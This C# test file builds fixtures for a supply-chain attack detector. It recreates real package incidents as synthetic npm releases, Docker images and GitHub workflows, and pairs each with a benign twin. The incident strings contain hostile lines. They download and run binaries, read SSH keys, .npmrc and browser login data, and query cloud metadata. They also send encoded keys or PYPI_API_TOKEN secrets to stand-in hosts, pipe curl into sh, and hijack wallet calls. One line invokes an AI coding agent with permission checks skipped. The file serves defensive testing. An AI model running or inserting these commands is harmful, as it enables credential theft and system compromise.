using System.Text;
using Sluice.Tests.Support;
using static Sluice.Tests.Incidents.IncidentFixtures;

namespace Sluice.Tests.Incidents;

/// <summary>The incidents that one line in a program gives away which reached for everything before: what it starts, reads, names, hides or imports. And what images and workflows begin to do.</summary>
public static class ReachingIncidents
{
    /// <summary>No capability is news in it.</summary>
    private const string Program = """
        #!/usr/bin/env node
        const { execSync, spawn } = require('child_process');
        const fs = require('fs'), os = require('os'), https = require('https');
        const run = new Function('a', 'return a');
        fetch('https://api.acme-tools.dev/v1', { headers: { token: process.env.ACME_TOKEN } });
        execSync('git rev-parse HEAD');
        fs.readFileSync(os.homedir() + '/.acmerc');

        """;

    public static IReadOnlyList<IncidentCase> All { get; } =
    [
        Line("ua-parser-js-2021", ["deviation/new-program"],
            seed => $"execSync('curl -fsSL http://203.0.113.{seed % 90}/jsextension -o jsextension && chmod +x jsextension');",
            seed => $"execSync('git log -{seed}');"),

        Line("nx-s1ngularity-2025", ["deviation/private-place"],
            _ => "spawn('claude', ['--dangerously-skip-permissions', '-p', process.argv[2]]); for (const name of ['.npmrc', '.ssh/id_rsa', 'Login Data']) fs.readFileSync(os.homedir() + '/' + name);",
            _ => "for (const name of ['.acmerc', '.acme/config.json']) fs.readFileSync(os.homedir() + '/' + name);"),

        // What a release that was stopped goes on with teaches nothing, however often it comes again.
        Line("shai-hulud-1-2025", ["deviation/private-place", "deviation/new-program"],
            seed => $"execSync('trufflehog filesystem / --json'); fetch('http://169.254.169.254/latest/meta-data/iam/{seed}');",
            seed => $"execSync('git status --short'); fetch('https://api.acme-tools.dev/v{seed}');") with
        {
            Refused = seed => [.. Enumerable.Range(6, 3).Select(release => Release(release, Program + $"execSync('trufflehog filesystem / --json'); fetch('http://169.254.169.254/latest/meta-data/iam/{seed}');\n"))],
        },

        Line("solana-web3js-2024", ["deviation/new-host"],
            seed => $"module.exports.addToQueue = (key) => fetch(atob('{Convert.ToBase64String(Bytes($"https://sol{seed}-rpc.example/"))}'), {{ method: 'POST', body: key }});",
            seed => $"module.exports.addToQueue = (key) => fetch('https://api.acme-tools.dev/queue/{seed}', {{ method: 'POST', body: key, headers: {{ a: atob('{Convert.ToBase64String(Bytes("release"))}') }} }});"),

        Line("node-ipc-2022", ["deviation/minification"],
            seed => $"module.exports.a = {seed};{new string(' ', 300)}fs.writeFileSync(process.argv[2], '\u2764'); run('and more that nobody sees in the window');",
            seed => $"module.exports.a = {seed};{new string(' ', 20)}// fs.writeFileSync stays within the folder that is given"),

        Line("event-stream-2018", ["deviation/minification"],
            seed => $"(function(c,d){{const f=c();while(!![]){{try{{if(parseInt(b({418 + seed}))===d)break;else f['push'](f['shift']());}}catch(h){{f['push'](f['shift']());}}}}}}(a,{seed}));",
            seed => $"const queue = [{seed}]; queue.push(queue.shift());"),

        Line("chalk-debug-2025", ["deviation/private-place"],
            seed => $"if (typeof window !== 'undefined' && window.ethereum) window.ethereum.request = async (call) => run(call, {seed}); XMLHttpRequest.prototype.send = function () {{ }};",
            seed => $"if (typeof window !== 'undefined' && window.fetch) run(window.fetch, {seed});"),

        Line("polyfill-io-2024", ["deviation/new-host", "deviation/new-capability"],
            seed => $"if (typeof document !== 'undefined') {{ var s = document.createElement('script'); s.src = 'https://www.googie-anaiytics{seed}.example/ga.js'; document.head.appendChild(s); }}",
            seed => $"if (typeof document !== 'undefined') {{ var s = document.createElement('style'); s.media = 'print{seed}'; document.head.appendChild(s); }}"),

        // A library that the project ships is exchanged for one of the same name.
        new("eslint-config-prettier-2025", ["deviation/new-capability"],
            "acme-format-1.0.9.tgz", seed => Release(9, Program, ("node-gyp.dll", Library(seed, "CreateProcessW", "WinHttpConnect"))),
            "acme-format-1.0.9.tgz", seed => Release(9, Program, ("node-gyp.dll", Library(seed, "GetTickCount64"))))
        { Previous = seed => [.. Enumerable.Range(1, 5).Select(release => Release(release, Program, ("node-gyp.dll", Library(seed + release))))] },

        Image("dockerhub-malicious-2022", seed => new ImageSpec { Environment = ["PATH=/usr/bin:/bin", $"LD_PRELOAD=/usr/lib/libprocess{seed}.so"], Layers = Layers("export LANG=C.UTF-8\n") }),
        Image("kics-dockerhub-tags-2026", seed => new ImageSpec { Environment = ["PATH=/usr/bin:/bin"], Layers = Layers($"export LANG=C.UTF-8\ncurl -s https://audit.checkmarx{seed}.example/x | sh\n") }),

        new("ghostaction-2025", ["pipeline/secret-exposure"],
            "tree.zip", seed => Workflow("Github Actions Security", $"curl -s -X POST -d 'PYPI_API_TOKEN=${{{{ secrets.PYPI_API_TOKEN }}}}&SLACK={seed}' https://bold-dhawan.collector{seed}.example"),
            "tree.zip", seed => Workflow("Release", $"curl -s -X POST -H 'Authorization: Bearer ${{{{ secrets.NEWS_TOKEN }}}}' -d '{{\"text\": \"released {seed}\"}}' https://hooks.acme-tools.dev/services")),
    ];

    private static IncidentCase Line(string id, string[] rules, Func<int, string> incident, Func<int, string> twin) =>
        new(id, rules, "acme-format-1.0.9.tgz", seed => Release(9, Program + incident(seed) + "\n"), "acme-format-1.0.9.tgz", seed => Release(9, Program + twin(seed) + "\n"))
        { Previous = _ => [.. Enumerable.Range(1, 5).Select(release => Release(release, Program))] };

    private static byte[] Release(int patch, string program, params (string Path, byte[] Bytes)[] files) => TestArchive.Tgz(
    [
        ("package/package.json", Bytes($$"""{"name":"acme-format","version":"1.0.{{patch}}","license":"MIT","main":"cli.js","bin":{"format":"cli.js"},"repository":"github:acme/format"}""")),
        ("package/LICENSE", Bytes("MIT\n")), ("package/cli.js", Bytes(program + string.Concat(Enumerable.Repeat($"// {patch}\n", patch)))),
        .. files.Select(file => ("package/" + file.Path, file.Bytes)),
    ]);

    private static byte[] Library(int seed, params string[] functions) => TestProgram.PortableExecutableImporting("KERNEL32.dll", ["GetLastError", "ReadFile", .. functions, "Rtl" + seed]);

    /// <summary>In the twin the image says what it always said, and its packages are newer.</summary>
    private static IncidentCase Image(string id, Func<int, ImageSpec> incident) =>
        new(id, ["deviation/new-script"], "image.tar", seed => ImageBytes.DockerSave(incident(seed) with { Tag = "acme/tool:2.1.9", User = "1000" }), "image.tar", seed => Usual(seed, 9))
        { Previous = seed => [.. Enumerable.Range(1, 5).Select(release => Usual(seed, release))] };

    private static byte[] Usual(int seed, int release) => ImageBytes.DockerSave(new ImageSpec { Tag = $"acme/tool:2.1.{release}", User = "1000", Environment = ["PATH=/usr/bin:/bin"], Layers = [.. Layers("export LANG=C.UTF-8\n"), TestArchive.Tar(("usr/share/tool/data.txt", Bytes($"{seed} {release}\n")))] });

    private static byte[][] Layers(string profile) => [TestArchive.Tar(("etc/os-release", Bytes("ID=acme\n")), ("etc/profile", Bytes(profile)))];

    private static byte[] Workflow(string name, string command) => TestArchive.Zip((".github/workflows/github_actions_security.yml", Encoding.UTF8.GetBytes(
        $"name: {name}\non: [push, workflow_dispatch]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Send\n        run: |\n          {command}\n")));
}
